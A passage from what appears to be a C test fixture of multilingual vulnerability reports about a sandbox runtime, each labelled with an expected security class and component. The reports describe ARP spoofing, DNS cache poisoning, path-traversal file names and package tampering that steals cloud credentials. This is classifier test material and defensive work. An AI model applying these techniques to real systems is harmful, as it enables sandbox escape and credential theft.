	  "As root in my CI job I remounted the base layer read-write and wrote a file; the file then\n"
	  "turned up in a teammate's sandbox started later from the same image.",
	  "isolation_bypass", "core" },
	{ "Layer cache",
	  "A job that writes into /.layers/0 changes the cached image on the runner, and what it plants\n"
	  "runs in other teams' CI sandboxes started from the same image.",
	  "isolation_bypass", "core" },
	{ "Crash on start",
	  "msb run alpine panics on start with a nil map; I got the same panic in a colleague's sandbox\n"
	  "and it appears in my teammate's jobs as well.",
	  NULL, "core" },
	{ "Slow runners",
	  "One sandbox that fills its disk makes msbd slow, and other teams' jobs on the runner wait\n"
	  "for minutes before they start.",
	  NULL, "core" },
	/* (1364) one customer's key sent with another customer's requests is
	 * secret_leakage; a key that acts on another tenant's sandboxes
	 * because ownership is not checked stays control_plane_auth */
	{ "Node SDK reuses the first tenant's key",
	  "Our worker creates one client per customer, but every customer's requests are sent with the\n"
	  "first customer's API key, so customer B ends up working in customer A's account.",
	  "secret_leakage", "node_sdk" },
	{ "Python SDK: नए client की requests",
	  "हमारे service में हर नए client की requests पुरानी API key से ही जाती हैं, यानी एक ग्राहक की\n"
	  "key दूसरे ग्राहक के काम में इस्तेमाल होती है। from microsandbox import Sandbox",
	  "secret_leakage", "python_sdk" },
	{ "SDK-Client behält den ersten Schlüssel",
	  "Im Python SDK gehen die Anfragen des zweiten Kunden mit dem API-Schlüssel des ersten Kunden raus,\n"
	  "weil die Session zwischengespeichert wird.",
	  "secret_leakage", "python_sdk" },
	/* (#3) a legacy endpoint of the hosted API that an old SDK still calls
	 * skips a check the newer one makes: the server's flaw (1946); the
	 * SDK's own code calling an old endpoint with nothing skipped stays
	 * the SDK's */
	{ "Project quota ignored for Node SDK 0.9 (Node SDK)",
	  "With the Node SDK 0.9.x from npm, Sandbox.create goes through the legacy endpoint\n"
	  "POST https://api.sandbox-cloud.example/v1/sandboxes, and there the project quota is not\n"
	  "enforced: our Node SDK script started 400 sandboxes. The Node SDK's newer releases use /v2.",
	  NULL, "cloud" },
	{ "Python SDK drops the timeout (Python SDK)",
	  "The Python SDK still calls the old endpoint for exec and the Python SDK never passes the\n"
	  "timeout argument we give it: from microsandbox import Sandbox; sb.exec(cmd, timeout=5).",
	  NULL, "python_sdk" },
	{ "Any key deletes any sandbox",
	  "Customer B's API key can delete customer A's sandboxes in the cloud: the API never checks that\n"
	  "the sandbox belongs to the key's organization.",
	  "control_plane_auth", "cloud" },
	/* (1662, 1680) a network-layer attack by one sandbox on its neighbours
	 * (router advertisements, ARP spoofing, a poisoned shared DNS cache)
	 * is isolation_bypass, not network_bypass; spoofing that only gets the
	 * writer's own sandbox past its allowlist stays network_bypass */
	{ "Guests take each other's gateway via ARP",
	  "On the default bridge one guest can answer ARP for 10.44.0.1. After arp spoofing the gateway\n"
	  "address the other VMs send their DNS and HTTP to it, and it rewrites their replies.",
	  "isolation_bypass", "core" },
	{ "Resolver cache shared by all sandboxes",
	  "netd answers every guest from one cache. From sandbox x I poison the shared resolver cache\n"
	  "for the npm registry and the neighbouring sandboxes get my address for it.",
	  "isolation_bypass", "core" },
	{ "Rogue router",
	  "Every guest on the bridge keeps accept_ra on. When one of them advertises itself, the other\n"
	  "guests then route their IPv6 traffic through it instead of through the host.",
	  "isolation_bypass", "core" },
	{ "DNS-Cache von netd",
	  "Eine Sandbox kann mit gef\xc3\xa4lschten Antworten den DNS-Cache von netd vergiften, den die\n"
	  "anderen Sandboxen ebenfalls benutzen; deren Anfragen gehen dann an meinen Server, egress.",
	  "isolation_bypass", "core" },
	{ "Forwarder bez oddělení",
	  "Kontejner s vlastním --dns dokáže otrávit cache forwarderu, takže ostatní sandboxy pak\n"
	  "dostanou jeho adresy. Zkoušeno na msb 0.10.4, log přikládám, kroky: msb run ...",
	  "isolation_bypass", "core" },
	{ "Answers for the neighbours",
	  "msb-netd keeps one table of answers for the whole host, so my sandbox can spoof DNS replies\n"
	  "that every other sandbox then receives for github.com.",
	  "isolation_bypass", "core" },
	{ "Podvržené DNS obchází allowlist",
	  "Můj sandbox si podvrhne DNS odpověď a --net-allow-host pak povolí spojení na libovolnou\n"
	  "adresu mimo allowlist; egress tak není omezen.",
	  "network_bypass", "core" },
	{ "Spoofing the gateway escapes the allowlist",
	  "With ARP spoofing of the gateway my sandbox sends its packets around the egress allowlist\n"
	  "and reaches hosts its network policy forbids.",
	  "network_bypass", "core" },
	/* (1685) the guest changing the mode or owner of host files through a
	 * share (a read-only volume that still takes chmod/chown) is an escape,
	 * though the setuid bit then gives root; a setuid binary inside the
	 * guest's own image is no host file */
	{ "Read-only mount accepts chown",
	  "A volume passed with :ro blocks writes, but the guest can still chown and chmod files in it,\n"
	  "so root in the sandbox sets the setuid bit on a binary on the host. Privilege escalation to root.",
	  "sandbox_escape", "core" },
	{ "Schreibschutz greift nicht f\xc3\xbcr Metadaten",
	  "Bei einem schreibgesch\xc3\xbctzten Mount klappt im Gast zwar kein Schreiben, aber chown geht\n"
	  "durch: der Gast \xc3\xa4ndert so den Eigent\xc3\xbcmer von Host-Dateien und erh\xc3\xa4lt root-Rechte.",
	  "sandbox_escape", "core" },
	{ "Setuid helper in the guest image",
	  "The base image ships a setuid copy of find, so any user inside the guest can chmod files and\n"
	  "become root in the guest. This is a privilege escalation within the sandbox only.",
	  "privilege_escalation", "core" },
	/* (1701) the host named as whoever runs the client that takes the
	 * guest's files ("the user running the SDK", "the machine that runs
	 * the CLI"); files in the guest's own home are no host files */
	{ "Copy-out follows names from the guest",
	  "Downloading a folder from a VM, the client trusts the member names it gets back, so a guest\n"
	  "can overwrite dotfiles in the home of the developer running the CLI, e.g. ~/.profile.",
	  "sandbox_escape", "core" },
	{ "Guest archive unpacked as is",
	  "Any microVM can plant files in the autostart folder of the machine that runs the client when\n"
	  "its archive is copied out; nothing checks the entry names.",
	  "sandbox_escape", "core" },
	{ "Question about the guest home",
	  "Code in the sandbox can replace files in /root of the guest; the user running the SDK sees\n"
	  "nothing on the host. Is that intended?",
	  NULL, "core" },
	/* (1640) a file written on the host, said in Portuguese, Spanish or
	 * Italian, beside a traversal, is an escape; the daemon's logs written
	 * on the host, alone, are no class */
	{ "Traversal no upload",
	  "Com um nome como ../../.profile o upload sai do diret\xc3\xb3rio tempor\xc3\xa1rio e o arquivo \xc3\xa9\n"
	  "escrito no host, na home do usu\xc3\xa1rio.",
	  "sandbox_escape", "core" },
	{ "Path traversal en la copia",
	  "Un nombre ../../.bashrc hace que el SDK escriba el archivo en el host y no dentro de la VM.",
	  "sandbox_escape", "core" },
	{ "Path traversal nella copia",
	  "Con ../../.bashrc come nome il file viene scritto sull'host al posto della sandbox.",
	  "sandbox_escape", "core" },
	{ "Logs do msbd",
	  "Os logs do msbd s\xc3\xa3o gravados no host em /var/log/msb, gostaria de mud\xc3\xa1-los de lugar.",
	  NULL, "core" },
	/* (1371, 1410) one sandbox's egress allowlist used, opened or shared
	 * by another is the egress policy bypassed (the guest reaches the
	 * outside its own policy forbids), though another sandbox is the way;
	 * traffic between two sandboxes stays isolation_bypass */
	{ "Guest borrows the build sandbox's egress rules",
	  "The untrusted sandbox has no allowlist at all. After I changed its MAC and address to the\n"
	  "build sandbox's, it gets the build sandbox's egress rules and can upload to our artifact\n"
	  "server, which only the build sandbox may reach.",
	  "network_bypass", "core" },
	{ "Allowed IPs leak between sandboxes",
	  "msb keeps the resolved addresses for --allow-host in one host-wide pin table, and the\n"
	  "resolved IPs are shared across all sandboxes: whatever my sandbox resolves through its own\n"
	  "allowed domain is then open to the strict sandbox next to it too.",
	  "network_bypass", "core" },
	{ "Egress-Filter",
	  "Die Allowlist einer anderen Sandbox gilt auch f\xc3\xbcr meine, sobald ich deren IP-Adresse\n"
	  "\xc3\xbc" "bernehme; so erreiche ich Server, die meine Sandbox nicht erreichen darf.",
	  "network_bypass", "core" },
	{ "\xd9\x81\xdb\x8c\xd9\x84\xd8\xaa\xd8\xb1 egress",
	  "\xd8\xa8\xd8\xa7 \xd8\xa7\xdb\x8c\xd9\x86 \xd8\xb1\xd9\x88\xd8\xb4 \xdb\x8c\xda\xa9 sandbox \xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xaa\xd9\x88\xd8\xa7\xd9\x86\xd8\xaf "
	  "\xd9\x81\xdb\x8c\xd9\x84\xd8\xaa\xd8\xb1 sandbox \xd8\xaf\xdb\x8c\xda\xaf\xd8\xb1\xdb\x8c \xd8\xb1\xd8\xa7 \xd8\xa8\xd8\xa7\xd8\xb2 \xda\xa9\xd9\x86\xd8\xaf "
	  "\xd9\x88 \xd8\xa8\xd9\x87 \xd9\x87\xd8\xb1 \xd8\xb3\xd8\xb1\xd9\x88\xd8\xb1\xdb\x8c \xd8\xaf\xd8\xa7\xd8\xaf\xd9\x87 \xd8\xa8\xd9\x81\xd8\xb1\xd8\xb3\xd8\xaa\xd8\xaf; egress.",
	  "network_bypass", "core" },
	/* near misses: one sandbox reaching another's service, or a shared
	 * cache, names no egress policy of another sandbox */
	{ "Sandbox A reaches sandbox B",
	  "From sandbox A I can open sandbox B's web server on port 8080, although both run with an\n"
	  "egress allowlist of their own.",
	  "isolation_bypass", "core" },
	/* (1659) sandboxes said to talk, exchange or share with each other
	 * reach each other, whatever the network words; not when the writer
	 * says they cannot */
	{ "Isolated guests still exchange broadcasts with each other",
	  "Guests started with the isolated network mode drop TCP between them, but the sandboxes\n"
	  "still exchange ARP and LLMNR broadcasts with each other over the DNS port, so one learns the\n"
	  "other's hostname.",
	  "isolation_bypass", "core" },
	/* (1656) another owner's files or secrets found in the writer's new
	 * sandbox are what a previous tenant left: isolation_bypass, whatever
	 * the leftovers hold; a key of another team in a log is a leak */
	{ "Another tenant's SSH keys in brand-new cloud sandboxes",
	  "Some of our brand-new sandboxes on the cloud come up with another tenant's keys in a new\n"
	  "sandbox home directory: ~/.ssh/id_ed25519 and a token file from someone else's job. The\n"
	  "credentials are not ours.",
	  "isolation_bypass", "cloud" },
	/* (1625, 1627, 1629, 1634) the self-hosted server named as the
	 * software at fault, or run by a hosting company for its tenants, is
	 * core however much tenant, namespace and API-key talk the report
	 * holds; the managed cloud named, or the server only named against it,
	 * stays the cloud's, and an SDK that talks to the server stays the
	 * SDK's */
	/* (1749) the key compared only as far as the caller's own goes, so a
	 * bare prefix of it gets in, in English, Spanish, French and German;
	 * a prefix printed, or a prefix of a snapshot id, is no such check */
	{ "msbd accepts truncated bearer keys",
	  "Our self-hosted msb server checks the bearer key only up to the length of the string the\n"
	  "caller sends, so sending just the first four characters of the admin key lists every\n"
	  "sandbox and lets us run commands in them.",
	  "control_plane_auth", "core" },
	{ "La API del servidor msb acepta cualquier prefijo del token",
	  "Nuestro servidor msb compara el token s\xc3\xb3lo hasta la longitud del que env\xc3\xad" "a la petici\xc3\xb3n;\n"
	  "con dos caracteres del token de administraci\xc3\xb3n pude borrar sandboxes de otro equipo.",
	  "control_plane_auth", "core" },
	{ "msb server : n'importe quel pr\xc3\xa9" "fixe de la cl\xc3\xa9 API est accept\xc3\xa9",
	  "Sur notre serveur msb, n'importe quel pr\xc3\xa9" "fixe de la cl\xc3\xa9 d'administration passe : avec\n"
	  "Bearer msb_ on liste et on supprime les sandboxes de tous les namespaces.",
	  "control_plane_auth", "core" },
	{ "Debug log prints a prefix of the API key",
	  "msbd --debug writes the whole Authorization header to /var/log/msbd.log, which every local\n"
	  "user can read; the line shows a prefix of the admin API key and then the rest of it.",
	  "secret_leakage", "core" },
	/* (1731) Icelandic: a login demanded only in one case, access without
	 * authentication; "án innskráningar" alone is [no-login], and a login
	 * page merely named is nothing */
	{ "Stj\xc3\xb3rnbor\xc3\xb0 sk\xc3\xBDsins opnast \xc3\xa1n innskr\xc3\xa1ningar",
	  "API microsandbox cloud athugar lykilinn a\xc3\xb0" "eins ef sl\xc3\xb3\xc3\xb0in byrjar \xc3\xa1 /v1/; \xc3\xa1n\n"
	  "au\xc3\xb0kenningar m\xc3\xa1 ey\xc3\xb0" "a sandk\xc3\xb6ssum annarra fyrirt\xc3\xa6kja me\xc3\xb0 /v2/sandboxes.",
	  "control_plane_auth", "cloud" },
	/* (1774) a command or a page that reads, shows or reveals secrets,
	 * tokens or passwords, told in French, Spanish, Italian and German, is
	 * secret_leakage however many other users' sandboxes the secret comes
	 * from; a verb denied or a missing password is not, and one sandbox
	 * reaching into another's files stays isolation_bypass */
	{ "msb status lit les jetons des autres comptes",
	  "Sur notre machine de TP partag\xc3\xa9" "e, msb status --all fonctionne pour tout le monde et\n"
	  "affiche aussi les jetons pass\xc3\xa9s avec --env aux sandboxes des coll\xc3\xa8gues.",
	  "secret_leakage", "core" },
	{ "msb describe muestra las contrase\xc3\xb1" "as de otros usuarios",
	  "En el servidor del laboratorio, msb describe funciona con sandboxes ajenos y muestra las\n"
	  "contrase\xc3\xb1" "as que cada alumno pas\xc3\xb3 con --secret, aunque msb exec s\xc3\xad se niega.",
	  "secret_leakage", "core" },
	{ "msb inspect mostra le chiavi API degli altri",
	  "Sul server condiviso del corso, msb inspect su una sandbox altrui mostra le chiavi API che\n"
	  "il proprietario ha passato con --env; msb stop invece risponde permission denied.",
	  "secret_leakage", "core" },
	{ "msb inspect zeigt fremde Zugangsdaten",
	  "Auf dem gemeinsamen Build-Server zeigt msb inspect bei Sandboxen anderer Benutzer die\n"
	  "Zugangsdaten aus --secret im Klartext an, obwohl msb exec dort verweigert wird.",
	  "secret_leakage", "core" },
	{ "msb inspect n'affiche pas les secrets",
	  "J'ai v\xc3\xa9rifi\xc3\xa9 : msb inspect n'affiche pas les secrets des autres, il masque les valeurs.\n"
	  "Par contre un sandbox peut lire les fichiers de /home/etu02 dans le sandbox d'un autre\n"
	  "\xc3\xa9tudiant, et modifier ses fichiers.",
	  "isolation_bypass", "core" },
	/* (1775) a snapshot or its export that carries the secrets given to
	 * the sandbox, told in Japanese, Chinese, Korean and with the other
	 * languages' snapshot words, is snapshot_leak; a snapshot said not to
	 * hold them is not */
	{ "\xe3\x82\xa8\xe3\x82\xaf\xe3\x82\xb9\xe3\x83\x9d\xe3\x83\xbc\xe3\x83\x88\xe3\x81\x97\xe3\x81\x9f"
	  "\xe3\x82\xb9\xe3\x83\x8a\xe3\x83\x83\xe3\x83\x97\xe3\x82\xb7\xe3\x83\xa7\xe3\x83\x83\xe3\x83\x88"
	  "\xe3\x81\xab" "API\xe3\x82\xad\xe3\x83\xbc\xe3\x81\x8c\xe6\xae\x8b\xe3\x81\xa3\xe3\x81\xa6\xe3\x81\x84"
	  "\xe3\x82\x8b",
	  "msb snapshot save \xe3\x81\xa7\xe4\xbd\x9c\xe3\x81\xa3\xe3\x81\x9f\xe3\x82\xa2\xe3\x83\xbc\xe3\x82\xab"
	  "\xe3\x82\xa4\xe3\x83\x96\xe3\x82\x92\xe5\x88\xa5\xe3\x81\xae\xe3\x83\x9e\xe3\x82\xb7\xe3\x83\xb3"
	  "\xe3\x81\xa7\xe5\xbe\xa9\xe5\x85\x83\xe3\x81\x99\xe3\x82\x8b\xe3\x81\xa8\xe3\x80\x81--secret "
	  "\xe3\x81\xae\xe5\x80\xa4\xe3\x81\x8c\xe8\xaa\xad\xe3\x82\x81\xe3\x81\xbe\xe3\x81\x99\xe3\x80\x82",
	  "snapshot_leak", "core" },
	{ "\xe5\xbf\xab\xe7\x85\xa7\xe5\xaf\xbc\xe5\x87\xba\xe5\x8c\x85\xe5\x90\xab\xe4\xba\x86 API "
	  "\xe5\xaf\x86\xe9\x92\xa5",
	  "\xe7\x94\xa8 msb snapshot export \xe5\xaf\xbc\xe5\x87\xba\xe7\x9a\x84 tar \xe5\x8f\x91\xe7\xbb\x99"
	  "\xe5\x90\x8c\xe4\xba\x8b\xe5\x90\x8e\xef\xbc\x8c\xe5\xaf\xb9\xe6\x96\xb9\xe5\x8f\xaf\xe4\xbb\xa5"
	  "\xe7\x9b\xb4\xe6\x8e\xa5\xe7\x9c\x8b\xe5\x88\xb0\xe6\x88\x91\xe7\x94\xa8 --secret \xe4\xbc\xa0"
	  "\xe5\x85\xa5\xe7\x9a\x84\xe5\x80\xbc\xe3\x80\x82",
	  "snapshot_leak", "core" },
	{ "\xec\x8a\xa4\xeb\x83\x85\xec\x83\xb7\xec\x97\x90 \xed\x86\xa0\xed\x81\xb0\xec\x9d\xb4 "
	  "\xeb\x82\xa8\xec\x95\x84 \xec\x9e\x88\xec\x8a\xb5\xeb\x8b\x88\xeb\x8b\xa4",
	  "msb snapshot export \xeb\xa1\x9c \xeb\xa7\x8c\xeb\x93\xa0 \xed\x8c\x8c\xec\x9d\xbc\xec\x9d\x84 "
	  "\xeb\x8f\x99\xeb\xa3\x8c\xea\xb0\x80 import \xed\x95\x98\xeb\xa9\xb4 --secret "
	  "\xea\xb0\x92\xec\x9d\x84 \xea\xb7\xb8\xeb\x8c\x80\xeb\xa1\x9c \xec\x9d\xbd\xec\x9d\x84 "
	  "\xec\x88\x98 \xec\x9e\x88\xec\x8a\xb5\xeb\x8b\x88\xeb\x8b\xa4.",
	  "snapshot_leak", "core" },
	{ "Der Schnappschuss enth\xc3\xa4lt die Zugangsdaten",
	  "Nach msb snapshot export enth\xc3\xa4lt der Schnappschuss die Zugangsdaten aus --secret, und\n"
	  "jeder, dem wir die Datei geben, kann sie nach dem Import lesen.",
	  "snapshot_leak", "core" },
	{ "\xe3\x82\xb9\xe3\x83\x8a\xe3\x83\x83\xe3\x83\x97\xe3\x82\xb7\xe3\x83\xa7\xe3\x83\x83\xe3\x83\x88"
	  "\xe3\x81\xab\xe3\x83\x88\xe3\x83\xbc\xe3\x82\xaf\xe3\x83\xb3\xe3\x81\xaf\xe5\x90\xab\xe3\x81\xbe"
	  "\xe3\x82\x8c\xe3\x81\xaa\xe3\x81\x84",
	  "\xe3\x83\x89\xe3\x82\xad\xe3\x83\xa5\xe3\x83\xa1\xe3\x83\xb3\xe3\x83\x88\xe3\x81\xae\xe9\x80\x9a"
	  "\xe3\x82\x8a\xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82\xe3\x81\x9f\xe3\x81\xa0\xe3\x80\x81msb "
	  "logs \xe3\x81\xae\xe5\x87\xba\xe5\x8a\x9b\xe3\x81\xab API\xe3\x82\xad\xe3\x83\xbc\xe3\x81\x8c"
	  "\xe8\xa1\xa8\xe7\xa4\xba\xe3\x81\x95\xe3\x82\x8c\xe3\x81\xbe\xe3\x81\x99\xe3\x80\x82",
	  "secret_leakage", "core" },
	/* (#3) an installer or a package's own install step that leaves what
	 * it installs writable by everyone is the installer's (release_infra)
	 * or the SDK package's, not the runtime's whose daemon is replaced
	 * there; the daemon's own socket left open stays core */
	{ "Installer leaves /opt/msb/bin world-writable",
	  "On Alpine the installer creates /opt/msb/bin with mode 777 and the OpenRC service starts msbd\n"
	  "from there as root, so any local account swaps msbd and is root after the next restart.",
	  "privilege_escalation", "release_infra" },
	{ "Root daemon binary replaceable by any user",
	  "The msbd binary sits in a world-writable directory created by the install script, and the\n"
	  "systemd unit runs msbd from it as root: a local user replaces it and gets root on restart.",
	  "privilege_escalation", "release_infra" },
	{ "npm install -g makes msb binaries 0777",
	  "After a global npm install the package's postinstall leaves node_modules/microsandbox/bin\n"
	  "rwxrwxrwx; our root msbd unit runs from it, so any local user can replace msbd and be root.",
	  "privilege_escalation", "node_sdk" },
	{ "msbd socket world-writable",
	  "I installed with the install script and npm install, and then msbd creates /run/msbd.sock\n"
	  "world-writable, so any local user drives the root daemon and mounts host paths as root.",
	  "privilege_escalation", "core" },
	/* (1606) a published image or one of its layers that keeps a token of
	 * the release side is secret_leakage, not supply_chain; an image that
	 * differs from what the release built stays supply_chain */
	{ "Guest image layer ships the CI bot's token",
	  "One layer of the published guest image still has /root/.docker/config.json with the release\n"
	  "bot's token in it; the next layer removes the file, but anyone who pulls the image reads it.",
	  "secret_leakage", "release_infra" },
	/* (#3) a name the project's instructions rely on, said in plain words
	 * to be free for anyone to take: supply_chain; one said to be taken
	 * is none */
	{ "The install guide's pip name is not registered",
	  "Your install guide says pip install msb-sandbox-tools, but PyPI has no such project, so\n"
	  "anyone could register that name and every reader would run their setup.py.",
	  "supply_chain", "release_infra" },
	{ "Your docs tell people to run an npm package that did not exist",
	  "The quickstart page says to run npx create-msb-demo my-app, but npm said the package doesn't\n"
	  "exist. So anybody could have published a package under that name.",
	  "supply_chain", "release_infra" },
	{ "npx create-msb-demo fails",
	  "I ran npx create-msb-demo my-app and npm said the package does not exist. I had a typo in\n"
	  "the name, sorry; with the right name it works.",
	  NULL, "core" },
	{ "Published guest image carries a miner",
	  "The published guest image for 0.10.8 differs from the one the release workflow built: it has\n"
	  "an extra binary in /usr/local/bin that mines and sends ~/.aws out to a server in the logs.",
	  "supply_chain", "release_infra" },
	{ "base-node image keeps a personal access token",
	  "The official base-node image published with the last release includes a personal access\n"
	  "token in /opt/tools/.netrc, left there by the release workflow; crane blob prints it.",
	  "secret_leakage", "release_infra" },
	/* (#3) a published SDK package whose registry provenance fails (an
	 * invalid attestation from `npm audit signatures`, a version uploaded
	 * by an account that never published it before) was not made by the
	 * project's pipeline: release_infra, though the SDK is named.  A
	 * wish for provenance, or the SDK's own flaw, stays the SDK's */
	{ "Python SDK 0.9.2 wheel has a failed provenance check",
	  "We pin the Python SDK in our workers. pip-audit with provenance checking says the 0.9.2 wheel\n"
	  "has an invalid attestation, and PyPI shows it was uploaded by a different account than 0.9.1;\n"
	  "the backdoored wheel adds a .pth file that posts ~/.aws to a remote host on every import.",
	  "supply_chain", "release_infra" },
	{ "Node SDK package tampered after publish",
	  "I build on the Node SDK. After the bump, npm audit signatures says the linux-x64 binary\n"
	  "package of 0.12.1 has a broken provenance, and its tarball has a new preinstall that\n"
	  "downloads and runs a binary from an unknown host.",
	  "supply_chain", "release_infra" },
	{ "Node SDK sends the API key to any redirect host",
	  "The Node SDK follows a 302 from the API endpoint and resends the Authorization header with the\n"
	  "org API key to the new host, so a proxy that redirects gets the key. npm audit signatures is\n"
	  "clean and every attestation verifies; the flaw is in the SDK's fetch wrapper.",
	  "secret_leakage", "node_sdk" },
	/* (#3) the writer blames the SDK he builds on, but his own look behind
	 * it places the flaw elsewhere: the SDK only shows what the self-hosted
	 * server answers (core), a direct call to the hosted API without the
	 * SDK (cloud), a pull_request_target workflow handing the publish token
	 * to fork code (release_infra).  A flaw the SDK makes itself, or a
	 * direct test where no hosted API is named, stays the SDK's */
	{ "Node SDK shows API keys in sandbox.info()",
	  "Our dashboard uses the Node SDK with msb server on our build hosts. sandbox.info() prints the\n"
	  "env values we passed as secrets; the SDK merely displays whatever the server returns, and GET\n"
	  "/api/v1/sandboxes/demo on port 5555 gives the same values to anyone with a server key.",
	  "secret_leakage", "core" },
	{ "Python SDK logs secret values",
	  "With the Python SDK at debug level every Sandbox.create call logs the secret values we pass,\n"
	  "so the token ends up in our log files. The SDK's logger formats the whole request body.",
	  "secret_leakage", "python_sdk" },
	{ "Python SDK reconnect ignores the key's team scope",
	  "I thought the Python SDK ignored the key's scope, so I tried the API directly: with a key\n"
	  "scoped to team A, https://api.microsandbox.dev/v1/sandboxes/sbx_9 of team B answers our exec\n"
	  "requests and the command runs in team B's sandbox in the cloud.",
	  "control_plane_auth", "cloud" },
	{ "Node SDK retries forever on 429",
	  "The Node SDK keeps retrying without backoff when the server answers 429; we tried the endpoint\n"
	  "directly and it answers correctly, the SDK's retry loop ignores Retry-After and floods our proxy.",
	  NULL, "node_sdk" },
	{ "Vulnerability in the microsandbox PyPI package",
	  "The wheel-preview workflow runs on pull_request_target with PYPI_TOKEN in its environment and\n"
	  "checks out the fork's branch, so a contributor's setup.py runs with the token and can upload\n"
	  "any version of the Python SDK to PyPI.",
	  "supply_chain", "release_infra" },
	/* (1753) an error or debug page of the hosted service that shows a key,
	 * an Authorization header or a token, in Dutch, German, French, Spanish,
	 * Portuguese and Italian, is secret_leakage; the SDK named as the
	 * writer's client of the cloud (with its `npm ls`/`pip show`) does not
	 * take the component from the cloud.  A message about an invalid key,
	 * a page that shows only a key's id or does not show it, and a flaw in
	 * the Node SDK's own error text (cloud named beside it) are not this */
	{ "Foutpagina van de cloud console toont andermans sleutel",
	  "Wij gebruiken de Node SDK tegen jullie cloud (npm ls geeft microsandbox@0.10.4). Af en toe\n"
	  "toont de foutpagina van de cloud console een debugblok met de API-sleutel van een andere klant.",
	  "secret_leakage", "cloud" },
	{ "Cloud API 503 shows another tenant's key",
	  "We use the Python SDK against your cloud (pip show microsandbox says 0.10.4). Now and then the\n"
	  "503 error page of the cloud API shows another tenant's API key in a debug section.",
	  "secret_leakage", "cloud" },
	{ "Node SDK error text carries the key",
	  "npm ls gives microsandbox@0.10.4. When the cloud API answers 502 the Node SDK puts the\n"
	  "Authorization header into the error message it throws, and our logger ships that everywhere.",
	  "secret_leakage", "node_sdk" },
	{ "Fehlerseite mit fremdem Schlüssel",
	  "Die Fehlerseite von msbd zeigt im Debug-Block den vollständigen API-Schlüssel eines anderen\n"
	  "Kunden, wenn zwei Anfragen gleichzeitig über denselben Worker laufen.",
	  "secret_leakage", "core" },
	{ "Page d'erreur de msbd",
	  "Quand deux requêtes passent par le même worker, la page d'erreur de msbd affiche la clé API\n"
	  "d'un autre client dans son bloc de débogage.",
	  "secret_leakage", "core" },
	{ "Respuesta 500 de msbd",
	  "Con dos peticiones simultáneas, la respuesta 500 de msbd muestra el token de otro cliente\n"
	  "en el bloque de depuración.",
	  "secret_leakage", "core" },
	{ "Chave de outro cliente",
	  "Com duas requisições ao mesmo tempo, a chave de API de outro cliente aparece na mensagem de\n"
	  "erro que o msbd devolve.",
	  "secret_leakage", "core" },
	{ "Pagina di errore di msbd",
	  "Con due richieste contemporanee la pagina di errore di msbd mostra la chiave API di un altro\n"
	  "cliente nel blocco di debug.",
	  "secret_leakage", "core" },
	{ "Verwarrende foutmelding",
	  "De foutmelding van msbd toont 'ongeldige API-sleutel' wanneer ik een verlopen sleutel\n"
	  "gebruik, ook als de sleutel nog geldig is. Dat is verwarrend.",
	  NULL, "core" },
	{ "Fehlerseite nennt nur die Schlüssel-ID",
	  "Die Fehlerseite von msbd zeigt die Schlüssel-ID der Anfrage, nicht den Schlüssel selbst; das\n"
	  "finde ich in Ordnung, nur die Formatierung ist unschön.",
	  NULL, "core" },
	{ "Page d'erreur sans clé",
	  "La page d'erreur de msbd n'affiche pas la clé, seulement le nom du worker et l'heure.",
	  NULL, "core" },
	/* Icelandic core vocabulary of the other classes, as control_plane_auth
	 * got it (1731): an escape from the sandbox, code run on the host; a
	 * key that leaks or is visible; isolation between sandboxes, other
	 * users' sandboxes; root on the host, privileges raised.  Near misses:
	 * an escape that failed, code run in the sandbox, a key that does not
	 * leak, "lykilatriði", isolation from the network, root in the guest */
	{ "Sandkassaflótti í microsandbox",
	  "Forrit í gestinum getur sloppið út úr sandkassanum með því að misnota virtio-fs deilinguna\n"
	  "og skrifað skrár á hýsilvélinni.",
	  "sandbox_escape", "core" },
	{ "vsock skeyti",
	  "Með sérsmíðuðu vsock skeyti keyrir árásaraðili kóða á hýsilvélinni sem notandinn sem ræsti\n"
	  "msb.",
	  "sandbox_escape", "core" },
	{ "Tilraun með virtio-fs",
	  "Ég reyndi að brjótast inn í stillingarnar en tókst ekki að brjótast út úr sandkassanum. Ég\n"
	  "keyri kóða í sandkassanum án vandræða, þetta er bara spurning um skjölunina.",
	  NULL, "core" },
	{ "Aðgangslykill í annálnum",
	  "API-lykillinn lekur í villuboðunum sem msbd skrifar í annálinn, og hver notandi á vélinni\n"
	  "getur lesið lykilorð úr honum.",
	  "secret_leakage", "core" },
	{ "Lykilatriði í hönnuninni",
	  "Lykilatriði í hönnuninni er að lykilorðið lekur ekki og lykillinn er ekki sýnilegur. Ég er\n"
	  "bara að spyrja hvernig það er tryggt.",
	  NULL, "core" },
	{ "Einangrun milli sandkassa rofin",
	  "Einangrun milli sandkassa er rofin: úr einum sandkassa má lesa skrár annarra notenda sem\n"
	  "liggja í sameiginlegu möppunni.",
	  "isolation_bypass", "core" },
	{ "Einangrun frá netinu",
	  "Einangrun milli sandkassans og netsins virkar ekki eins og ég bjóst við, ég skil ekki\n"
	  "skjölunina um stefnuna.",
	  NULL, "core" },
	{ "Rótarréttindi á hýsilvélinni",
	  "Venjulegur notandi fær rótarréttindi á hýsilvélinni í gegnum msbd socket; þetta er hækkun\n"
	  "réttinda.",
	  "privilege_escalation", "core" },
	{ "Rót í gestinum",
	  "Ég er með rótarréttindi inni í sandkassanum, sem er eðlilegt. Spurning um skjölunina.",
	  NULL, "core" },
	{ "Namespace keys reach other tenants on msb server",
	  "We run msb server for about forty customers, one namespace each. A key issued for namespace\n"
	  "team-a can call GET /v1/namespaces/team-b/sandboxes/web/logs and gets team-b's logs: the\n"
	  "multi-tenant server checks that the API key is valid but never which namespace it belongs to.",
	  "control_plane_auth", "core" },
	{ "Our hoster's sandboxes show every tenant",
	  "Our hosting provider resells msb server under its own brand. When I call their list endpoint\n"
	  "with an empty namespace parameter, the API key they gave our tenant lists the sandboxes of\n"
	  "all their other customers, and I can read those sandboxes' logs by id.",
	  "control_plane_auth", "core" },
	{ "Mandantentrennung im selbst gehosteten msb-Server",
	  "Wir betreiben einen selbst gehosteten msb-Server f\xc3\xbcr mehrere Kunden. Mit dem API-Schl\xc3\xbcssel\n"
	  "des Namespace kunde-a kann man beim Anlegen einer Sandbox ein Volume aus dem Namespace kunde-b\n"
	  "einh\xc3\xa4ngen und dessen Daten lesen; der Server pr\xc3\xbc" "ft den Namespace des Volumes nicht.",
	  "isolation_bypass", "core" },
	/* the same in French, "la cl\xc3\xa9 API" an API key as in English */
	{ "Namespaces m\xc3\xa9lang\xc3\xa9s sur notre serveur",
